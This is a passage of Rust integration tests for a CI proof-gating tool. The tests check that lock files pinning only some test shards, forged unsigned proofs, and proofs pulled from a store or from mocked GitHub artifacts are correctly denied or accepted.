    assert_eq!(calc["reason"], "LOCK_MISMATCH", "{calc:#}");
    assert!(
        calc["message"].as_str().unwrap().contains("`shard`"),
        "{calc:#}"
    );
}

#[test]
fn update_locks_the_latest_attempt_of_a_shard_and_refuses_two_proofs_of_one() {
    let (_t, root, proofs, key, public) = locked_shards();
    // Shard `b` re-run: attempt 2 is the one locked.
    let rerun = generate_shard(
        &root,
        &key,
        "out/rerun",
        "77",
        "b",
        "2",
        &[("test_calc_b", "tests/test_calc_b.py")],
    );
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let lock = read_lock(&root);
    assert_eq!(
        lock["scripts"]["calc"]["shards"][1]["proof_digest"]
            .as_str()
            .unwrap(),
        digest_of(&rerun.join("proof-calc@b.json"))
    );
    // Another run's shard `b` beside it: two different proofs of one shard.
    generate_shard(
        &root,
        &key,
        "out/other-run",
        "78",
        "b",
        "1",
        &[("test_calc_b", "tests/test_calc_b.py")],
    );
    let before = std::fs::read(root.join("proofgate.lock")).unwrap();
    let o = lock_update(&root, &proofs, &public);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(
        text(&o).contains("two different proofs of `calc`"),
        "{}",
        text(&o)
    );
    assert_eq!(std::fs::read(root.join("proofgate.lock")).unwrap(), before);
}

// Tests split within one file across shards (as pytest-split does): every shard covers
// the file, so only seeing the run's other proofs finds the one the lock left out.

/// Signed proofs of run 77 split within `tests/test_calc.py`: shard `a` runs `test_one`
/// (and `other`'s test), shard `b` runs `test_two`, which fails when `b_fails`. Both
/// under `root/<out>`.
fn generate_split(root: &Path, key: &str, out: &str, b_fails: bool) -> PathBuf {
    let shard = |shard: &str, cases: &[(&str, &str, bool)]| {
        let mut junit = String::from("<testsuite name=\"pytest\">\n");
        for (name, file, fails) in cases {
            let class = file.trim_end_matches(".py").replace('/', ".");
            let failure = if *fails {
                "<failure message=\"boom\">assert 1 == 2</failure>"
            } else {
                ""
            };
            junit.push_str(&format!(
                "<testcase classname=\"{class}\" name=\"{name}\" file=\"{file}\" \
                 time=\"0.01\">{failure}</testcase>\n"
            ));
        }
        junit.push_str("</testsuite>\n");
        let junit_path = format!("junit-{shard}.xml");
        std::fs::write(root.join(&junit_path), junit).unwrap();
        let o = bin()
            .arg("--root")
            .arg(root)
            .args(["generate", "--junit", &junit_path, "--out", out])
            .args(["--shard", shard])
            .args(["--commit", "0123456789abcdef0123456789abcdef01234567"])
            .args(["--run-id", "77", "--repository", REPO])
            .args(["--seed", "PYTHONHASHSEED=0"])
            .env("PROOFGATE_SIGNING_KEY", key)
            .env("GITHUB_RUN_ATTEMPT", "1")
            .env_remove("GITHUB_STEP_SUMMARY")
            .output()
            .unwrap();
        assert!(
            root.join(out)
                .join(format!("proof-calc@{shard}.dsse.json"))
                .exists(),
            "{}",
            text(&o)
        );
    };
    shard(
        "a",
        &[
            ("test_one", "tests/test_calc.py", false),
            ("test_other", "tests/test_other.py", false),
        ],
    );
    shard("b", &[("test_two", "tests/test_calc.py", b_fails)]);
    root.join(out)
}

/// A repository whose run 77 split `calc`'s one test file across shards `a` and `b`
/// (`b` failing when `b_fails`), the run's proofs under `out/`, and a lock written by
/// `lock update` from shard `a`'s proofs alone (copied to `only-a/`).
fn locked_without_shard_b(b_fails: bool) -> (tempfile::TempDir, PathBuf, PathBuf, String) {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("repo");
    repo(&root);
    let (key, public) = key_pair();
    let proofs = generate_split(&root, &key, "out", b_fails);
    let only_a = t.path().join("only-a");
    std::fs::create_dir_all(&only_a).unwrap();
    for f in std::fs::read_dir(&proofs).unwrap() {
        let name = f.unwrap().file_name().into_string().unwrap();
        if name.contains("@a.") {
            std::fs::copy(proofs.join(&name), only_a.join(&name)).unwrap();
        }
    }
    let o = lock_update(&root, &only_a, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    (t, root, proofs, public)
}

/// Shard `b`'s pin, made from shard `a`'s in `lock` as its author would write it.
fn pin_shard_b(lock: &mut Value, proofs: &Path) {
    let shards = lock["scripts"]["calc"]["shards"].as_array_mut().unwrap();
    let mut b = shards[0].clone();
    b["shard"] = "b".into();
    b["proof_digest"] = digest_of(&proofs.join("proof-calc@b.json")).into();
    shards.push(b);
}

#[test]
fn attack_a_lock_leaving_out_a_failing_shard_split_within_a_file_denies() {
    let (t, root, proofs, public) = locked_without_shard_b(true);
    let lock = read_lock(&root);
    let shards = lock["scripts"]["calc"]["shards"].as_array().unwrap();
    assert_eq!(shards.len(), 1, "{lock:#}");
    assert_eq!(shards[0]["shard"], "a");

    // Shard `a` alone covers the file, but the run's shard `b` is seen, and named.
    let (o, calc, other) = judged(&root, &public, &proofs, |_| {});
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "LOCK_INCOMPLETE", "{calc:#}");
    let message = calc["message"].as_str().unwrap();
    assert!(message.contains("shard `b`"), "{calc:#}");
    assert!(message.contains("FAIL"), "{calc:#}");
    assert!(message.contains("run 77"), "{calc:#}");
    assert_eq!(other["reason"], "CI_LOCKED", "{other:#}");
    assert_schema("verify-report.schema.json", &o.stdout);

    // Both pinned: shard `b` fails, whatever the lock says of it.
    let (o, calc, _) = judged(&root, &public, &proofs, |l| pin_shard_b(l, &proofs));
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "VERDICT_FAIL", "{calc:#}");
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["test_result"] = "FAIL".into();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_ne!(calc["reason"], "CI_LOCKED", "{calc:#}");
    let (o, _, _) = judged(&root, &public, &proofs, |l| {
        l["scripts"]["calc"]["test_result"] = "PASS".into();
        l["scripts"]["calc"]["shards"].as_array_mut().unwrap().pop();
    });
    assert_eq!(code(&o), 1, "{}", text(&o));

    // Shard `a` pinned as an unsharded entry: the run's shard `b` still denies.
    let (o, calc, _) = judged(&root, &public, &proofs, |l| {
        let a = l["scripts"]["calc"]["shards"][0].clone();
        let entry = l["scripts"]["calc"].as_object_mut().unwrap();
        entry.remove("shards");
        for k in [
            "proof_digest",
            "test_result",
            "test_run_id",
            "key_id",
            "test_seed",
        ] {
            if let Some(v) = a.get(k) {
                entry.insert(k.to_owned(), v.clone());
            }
        }
    });
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "LOCK_INCOMPLETE", "{calc:#}");
    assert!(
        calc["message"].as_str().unwrap().contains("shard `b`"),
        "{calc:#}"
    );

    // The proofs directory is the operator's: an unsigned file in it that claims the
    // pinned run must authenticate (it denies), one of another run is not looked at.
    let lock = read_lock(&root);
    let only_a = t.path().join("only-a");
    let mut forged: Value =
        serde_json::from_slice(&std::fs::read(only_a.join("proof-calc@a.json")).unwrap()).unwrap();
    forged["context"]["shard"] = "c".into();
    std::fs::write(
        only_a.join("proof-calc@c.json"),
        serde_json::to_vec(&forged).unwrap(),
    )
    .unwrap();
    let (o, calc, _) = judged(&root, &public, &only_a, |l| *l = lock.clone());
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(calc["reason"], "SIGNATURE_MISSING", "{calc:#}");
    forged["context"]["run_id"] = "78".into();
    std::fs::write(
        only_a.join("proof-calc@c.json"),
        serde_json::to_vec(&forged).unwrap(),
    )
    .unwrap();
    let (o, calc, _) = judged(&root, &public, &only_a, |_| {});
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(calc["reason"], "CI_LOCKED", "{calc:#}");
}

#[test]
fn a_run_split_within_a_file_passes_with_every_shard_pinned() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("repo");
    repo(&root);
    let (key, public) = key_pair();
    let proofs = generate_split(&root, &key, "out", false);
    let o = lock_update(&root, &proofs, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let (o, calc, _) = judged(&root, &public, &proofs, |_| {});
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(calc["reason"], "CI_LOCKED", "{calc:#}");
    assert_eq!(
        calc["combined"].as_array().map(Vec::len),
        Some(2),
        "{calc:#}"
    );
    // Either shard left out of the lock is seen.
    for keep in [0, 1] {
        let (o, calc, _) = judged(&root, &public, &proofs, |l| {
            let shards = l["scripts"]["calc"]["shards"].as_array_mut().unwrap();
            let kept = shards[keep].clone();
            *shards = vec![kept];
        });
        assert_eq!(code(&o), 1, "{}", text(&o));
        assert_eq!(calc["reason"], "LOCK_INCOMPLETE", "{calc:#}");
        let unpinned = if keep == 0 { "shard `b`" } else { "shard `a`" };
        assert!(
            calc["message"].as_str().unwrap().contains(unpinned),
            "{calc:#}"
        );
        let o = lock_update(&root, &proofs, &public);
        assert_eq!(code(&o), 0, "{}", text(&o));
    }
}

fn attack_a_failing_shard_left_out_of_the_lock_is_seen_in_the_store(db: Db) {
    let t = tempfile::tempdir().unwrap();
    let Some(url) = database(db, t.path()) else {
        return;
    };
    let server = Server::start(&url, &[]);
    let root = t.path().join("repo");
    repo(&root);
    let (key, public) = key_pair();
    let acme = tenant(&server.db, "acme", &public);

    // Run 77 passes in both shards, both stored, both pinned: it passes from the store
    // with the artifact gone.
    let passing = generate_split(&root, &key, "pass", false);
    let o = publish(&server, &passing, &acme.publish);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let o = lock_update(&root, &passing, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    std::fs::remove_dir_all(&passing).unwrap();
    let (_rt, gone) = artifact_api(&root, true);
    let vars = [
        ("GITHUB_API_URL", gone.uri()),
        ("GITHUB_TOKEN", "t".to_owned()),
        ("PROOFGATE_SERVER_TOKEN", acme.read.clone()),
    ];
    let o = gate(&root, &public, &["--server", &server.url()], &vars);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let calc = row(&o, "calc");
    assert_eq!(calc["reason"], "CI_LOCKED", "{calc:#}");
    assert!(
        calc["proof"]["file"]
            .as_str()
            .unwrap()
            .starts_with("store run "),
        "{calc:#}"
    );

    // Shard `b` fails in the run stored (for another tenant: one producer left one
    // proof per script); the lock pins shard `a` alone.
    let beta = tenant(&server.db, "beta", &public);
    let root = t.path().join("failing");
    repo(&root);
    let failing = generate_split(&root, &key, "out", true);
    let o = publish(&server, &failing, &beta.publish);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let only_a = t.path().join("only-a");
    std::fs::create_dir_all(&only_a).unwrap();
    for f in std::fs::read_dir(&failing).unwrap() {
        let name = f.unwrap().file_name().into_string().unwrap();
        if name.contains("@a.") {
            std::fs::copy(failing.join(&name), only_a.join(&name)).unwrap();
        }
    }
    let o = lock_update(&root, &only_a, &public);
    assert_eq!(code(&o), 0, "{}", text(&o));
    std::fs::remove_dir_all(&failing).unwrap();
    std::fs::remove_dir_all(&only_a).unwrap();
    let vars = [
        ("GITHUB_API_URL", gone.uri()),
        ("GITHUB_TOKEN", "t".to_owned()),
        ("PROOFGATE_SERVER_TOKEN", beta.read.clone()),
    ];
    let o = gate(&root, &public, &["--server", &server.url()], &vars);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let calc = row(&o, "calc");
    assert_eq!(calc["reason"], "LOCK_INCOMPLETE", "{calc:#}");
    let message = calc["message"].as_str().unwrap();
    assert!(
        message.contains("shard `b`") && message.contains("FAIL"),
        "{calc:#}"
    );
    assert!(message.contains("store run "), "{calc:#}");
}

/// A GitHub REST API that serves run 77's artifacts `names[i]`, each the zip of
/// `dirs[i]`.
fn artifacts_api(arts: &[(&str, &Path)]) -> (tokio::runtime::Runtime, wiremock::MockServer) {
    use wiremock::matchers::{method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let zips: Vec<(u64, &str, Vec<u8>)> = arts
        .iter()
        .zip(10u64..)
        .map(|((name, dir), id)| (id, *name, zip_of(dir)))
        .collect();
    let server = rt.block_on(async {
        let api = MockServer::start().await;
        let listed: Vec<Value> = zips
            .iter()
            .map(|(id, name, zip)| {
                serde_json::json!({"id": id, "node_id": "x", "name": name,
                    "size_in_bytes": zip.len(), "url": "u", "archive_download_url": "u",
                    "expired": false, "digest": null, "created_at": null, "expires_at": null,
                    "updated_at": null, "workflow_run": {"id": 77, "head_sha": "abc"}})
            })
            .collect();
        Mock::given(method("GET"))
            .and(path("/repos/acme/scripts/actions/runs/77/artifacts"))
            .respond_with(ResponseTemplate::new(200).set_body_json(
                serde_json::json!({"total_count": listed.len(), "artifacts": listed}),
            ))
            .mount(&api)
            .await;
        for (id, _, zip) in &zips {
            Mock::given(method("GET"))
                .and(path(format!(
                    "/repos/acme/scripts/actions/artifacts/{id}/zip"
                )))
                .respond_with(
                    ResponseTemplate::new(302)
                        .insert_header("location", format!("{}/blob/{id}?sig=s", api.uri())),
                )
                .mount(&api)
                .await;
            Mock::given(method("GET"))
                .and(path(format!("/blob/{id}")))
                .respond_with(ResponseTemplate::new(200).set_body_bytes(zip.clone()))
                .mount(&api)
                .await;
        }
        api
    });
    (rt, server)
}

#[test]
fn attack_a_failing_shard_left_out_of_the_lock_is_seen_in_the_runs_other_artifact() {
    let (t, root, proofs, public) = locked_without_shard_b(true);
    // Each shard uploaded its own artifact; the lock names shard `a`'s.
    let text_of_lock = std::fs::read_to_string(root.join("proofgate.lock")).unwrap();
    std::fs::write(
        root.join("proofgate.lock"),
        text_of_lock.replace("\"name\": \"proofs\"", "\"name\": \"proofs-a\""),
    )
    .unwrap();
    let only_b = t.path().join("only-b");
    std::fs::create_dir_all(&only_b).unwrap();
    for f in std::fs::read_dir(&proofs).unwrap() {
        let name = f.unwrap().file_name().into_string().unwrap();
        if name.contains("@b.") {
            std::fs::copy(proofs.join(&name), only_b.join(&name)).unwrap();
        }
    }
    let only_a = t.path().join("only-a");
    let (_rt, api) = artifacts_api(&[("proofs-a", &only_a), ("proofs-b", &only_b)]);
    std::fs::remove_dir_all(&proofs).unwrap();
    let vars = [
        ("GITHUB_API_URL", api.uri()),
        ("GITHUB_TOKEN", "t".to_owned()),
    ];
    let o = gate(&root, &public, &[], &vars);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let calc = row(&o, "calc");
    assert_eq!(calc["reason"], "LOCK_INCOMPLETE", "{calc:#}");
    let message = calc["message"].as_str().unwrap();
    assert!(
        message.contains("shard `b`") && message.contains("FAIL"),
        "{calc:#}"
    );
    assert_eq!(row(&o, "other")["reason"], "CI_LOCKED");
}
